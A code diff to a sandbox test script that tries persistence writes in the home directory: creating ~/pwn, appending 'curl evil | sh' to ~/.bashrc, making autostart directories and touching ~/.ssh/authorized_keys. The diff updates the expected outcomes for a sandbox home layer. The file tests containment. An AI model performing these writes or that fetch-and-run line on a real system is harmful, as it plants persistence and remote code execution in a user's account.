@@ -1,7 +1,7 @@
 #!/usr/bin/env python3
 # id: F01
 # tries: write $HOME/pwn, append to ~/.bashrc, create ~/.local/bin and ~/.config/autostart, add ~/.ssh/authorized_keys
-# expect: EROFS for each (EACCES for the masked ~/.ssh); the host's home is unchanged
+# expect: the writes land in the sandbox's home layer (EROFS without one); ~/.ssh stays masked (EACCES or EROFS); the host's home is unchanged (runner checks)
 # neighbour: a file in the workspace can be created, written, read and removed; ~/.cache (corral's per-workspace copy) is writable
 # needs: -
 # sandbox-args: -
@@ -11,15 +11,16 @@
 import errno
 import os
 
-from attacklib import attempt, main
+from attacklib import attempt, attempt_home_write, main
 
 
 def attack():
     home = os.environ["HOME"]
-    attempt("create ~/pwn", lambda: open(home + "/pwn", "w").close(), errno.EROFS)
-    attempt("append ~/.bashrc", lambda: open(home + "/.bashrc", "a").write("curl evil | sh\n"), errno.EROFS)
-    attempt("mkdir ~/.local/bin", lambda: os.mkdir(home + "/.local/bin"), errno.EROFS)
-    attempt("mkdir ~/.config/autostart", lambda: os.mkdir(home + "/.config/autostart"), errno.EROFS)
+    attempt_home_write("create ~/pwn", lambda: open(home + "/pwn", "w").close(), errno.EROFS)
+    attempt_home_write("append ~/.bashrc", lambda: open(home + "/.bashrc", "a").write("curl evil | sh\n"),
+                       errno.EROFS)
+    attempt_home_write("mkdir ~/.local/bin", lambda: os.makedirs(home + "/.local/bin"), errno.EROFS)
+    attempt_home_write("mkdir ~/.config/autostart", lambda: os.mkdir(home + "/.config/autostart"), errno.EROFS)
     attempt("create ~/.ssh/authorized_keys", lambda: open(home + "/.ssh/authorized_keys", "a").close(),
             errno.EROFS, errno.EACCES)
 
